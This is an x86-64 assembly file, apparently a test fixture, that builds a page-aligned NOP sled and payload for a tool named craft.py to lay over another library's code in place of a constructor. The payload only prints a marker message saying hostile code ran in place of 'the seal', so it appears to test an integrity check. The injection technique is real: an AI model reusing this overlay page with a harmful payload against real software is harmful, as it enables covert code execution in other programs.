// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A50: the page that craft.py lays over another library's code. Whoever enters it anywhere slides to the end
// and gets there. Position independent, raw system calls, returns as the constructor that it replaces would.
    .section .overlay, "a", @progbits
    .p2align 12
overlay:
    .fill 4096 - (end - payload), 1, 0x90
payload:
    mov $1, %eax
    mov $1, %edi
    lea message(%rip), %rsi
    mov $(end - message), %edx
    syscall
    ret
message:
    .ascii "hostile code ran in place of the seal\n"
end:

    .section .note.GNU-stack, "", @progbits
